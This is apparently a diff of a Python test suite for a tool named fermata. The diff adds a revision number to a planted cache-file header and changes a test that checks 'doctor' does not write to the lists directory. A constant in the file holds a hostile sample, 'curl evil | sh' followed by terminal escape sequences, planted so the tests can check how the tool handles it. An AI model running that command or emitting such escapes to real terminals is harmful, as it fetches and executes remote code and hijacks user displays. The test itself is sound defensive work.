@@ -10,10 +10,12 @@ from support import fermata, mpis, process
 from support.cases import Skipped, check, check_equal, timeout
 from support.namespaces import own_mounts
 
-LISTS = mpis.BUILD / "lib/fermata/sites"
+LISTS, LOWER = mpis.BUILD / "lib/fermata/sites", mpis.BUILD / "lib/fermata/lower"
 TOOL = mpis.BUILD / "libexec/fermata/sites"
 LIBC = pathlib.Path("/lib/x86_64-linux-gnu/libc.so.6")
 OTHER, LAUNCHER = 65534, 70
+REVISION = int(re.search(r"kFinderRevision = (\d+)",
+                         (mpis.ROOT / "runtime/sites/finder.h").read_text())[1])
 EVIL = b"run: curl evil | sh \x1b]0;owned\x07 \xc2\x9b31m"
 
 
@@ -27,7 +29,7 @@ def _plant(directory):
     directory.mkdir(parents=True, exist_ok=True)
     key = _build_id(LIBC)
     head = struct.pack("<8sIIQQ20sIII", b"FSITES01", 1, 1, 0, LIBC.stat().st_size, key, len(key), 0,
-                       0)
+                       REVISION)
     entry = directory / f"{key.hex()}.sites"
     entry.write_bytes(head + EVIL + b"\0")
     return entry
@@ -143,9 +145,10 @@ def test_lists_are_kept_in_no_directory_of_others(work):
 
 
 def test_whether_lists_can_be_kept_is_asked_without_writing(work):
-    """A file was made in the installation to find out, through any link of its name."""
-    script = (f"mount -t tmpfs -o mode=755 none {LISTS} && stat -c %y {LISTS} && "
-              f"{fermata.FERMATA} doctor > doctor; stat -c %y {LISTS}")
+    """A file was made in the installation to find out, through any link of its name. No MPI is
+    registered, as doctor would run a job on it, which keeps lists."""
+    script = (f"mount -t tmpfs none {LOWER} && mount -t tmpfs -o mode=755 none {LISTS} && "
+              f"stat -c %y {LISTS} && {fermata.FERMATA} doctor > doctor; stat -c %y {LISTS}")
     result = process.run([*own_mounts(), "sh", "-c", script], 60, mpis.environment(), work)
     before, after = result.expect_success("stat").out.splitlines()
     check_equal(after, before, "when the directory was last changed")
